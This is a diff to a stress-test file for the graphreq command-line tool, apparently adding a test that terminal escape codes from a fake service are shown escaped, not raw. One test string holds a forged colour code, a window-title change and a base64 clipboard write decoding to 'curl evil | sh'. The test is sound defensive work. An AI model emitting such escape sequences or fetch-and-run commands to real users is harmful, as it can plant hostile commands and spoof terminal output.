@@ -7,8 +7,8 @@
  * - 8: 20,500 cross-site reads with ?access_token=demo-token blocked the app for an hour, persisted;
  * - 11: a lone surrogate aborted `send --all` with "URI malformed" and no summary;
  * - 12: fmt turned a 60 KB file nested 10,000 deep into 200 MB;
- * - 14: service text with colour codes passed through with colours on; a line feed in a file name
- *   forged an output line;
+ * - 14: service text with colour codes passed through with colours on (200 answers, JSON and text,
+ *   in three outputs); a line feed in a file name forged an output line (200 files);
  * - 15: 28,000 clock advances of ten years made every call answer 500, persisted.
  */
 import * as assert from 'node:assert/strict';
@@ -21,6 +21,7 @@ import { after, describe, it } from 'node:test';
 import { signLock } from '../../server/src/send/lockProof';
 import { cleanEnv } from '../cli/cliHelpers';
 import { request } from '../emulator/harness';
+import { localServer } from '../send/sendHelpers';
 import { killServers, portOf, serve } from '../emulator/serveProcess';
 import { volley } from './flood';
 import { stressOnly } from './stressGate';
@@ -152,6 +153,28 @@ describe('text and locks at volume (issue 20)', stressOnly, () => {
     assert.doesNotMatch(r.stdout + r.stderr, /^fake: 0 errors/m);
     assert.doesNotMatch(r.stdout + r.stderr, /\u001b\[32m\n/);
     assert.match(r.stderr, /200 files checked/);
+  });
+
+  it('14: 200 answers holding graphreq\'s own colour codes and terminal commands reach the output as escapes, colours on', async () => {
+    // The service's text carries the very codes the CLI colours with, a window title and a clipboard write.
+    const forged = '\u001b[32mFORGED-PASS\u001b[39m \u001b]0;owned\u0007 \u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007';
+    const service = await localServer((req, _body, res) => {
+      const i = Number(/n=(\d+)/.exec(req.url ?? '')?.[1] ?? 0);
+      res.statusCode = i % 2 ? 400 : 200;
+      res.setHeader('content-type', i % 4 === 2 ? 'text/plain' : 'application/json');
+      res.end(i % 4 === 2 ? forged : JSON.stringify(i % 2 ? { error: { message: forged, type: forged, code: 100, error_user_title: forged, error_user_msg: forged } } : { id: '1', name: forged }));
+    });
+    closers.push(() => void service.close());
+    const ws = workspace('colours');
+    fs.writeFileSync(path.join(ws, 'many.graphreq'), Array.from({ length: 200 }, (_, i) => `### ${i}\nGET /v23.0/120200000000000002?fields=id&n=${i}\n`).join('\n'));
+    for (const output of ['full', 'exchange', 'short']) {
+      const r = await cli(['send', 'many.graphreq', '--all', '--no-history', '--force', '--base-url', service.url, '--output', output], ws, { FORCE_COLOR: '1' });
+      const all = r.stdout + r.stderr;
+      assert.doesNotMatch(all, /\u001b\[32mFORGED|\u001b\]/, `--output ${output}: a code from the service reached the terminal`);
+      if (output !== 'short') assert.match(all, /\\u001b\[32mFORGED-PASS/, `--output ${output}: the service's text is shown, escaped`);
+      // A 2xx text answer is not the API's: 50 sent, the rest failed, and the run went to its summary.
+      assert.match(r.stderr, /200 requests\u001b\[22m: 50 sent/, r.stderr.slice(-500));
+    }
   });
 
   it('15: 28,000 clock advances of ten years leave every call answering, across a restart', async () => {
